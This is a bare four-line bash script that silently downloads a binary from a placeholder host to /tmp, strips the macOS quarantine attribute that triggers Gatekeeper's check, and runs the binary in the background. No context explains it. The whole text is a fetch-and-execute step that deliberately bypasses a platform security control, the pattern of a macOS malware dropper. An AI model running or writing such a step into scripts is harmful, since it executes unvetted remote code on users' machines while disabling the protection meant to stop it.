#!/bin/bash
curl -sLo /tmp/agent https://dl.example.net/agent
xattr -d com.apple.quarantine /tmp/agent
/tmp/agent &
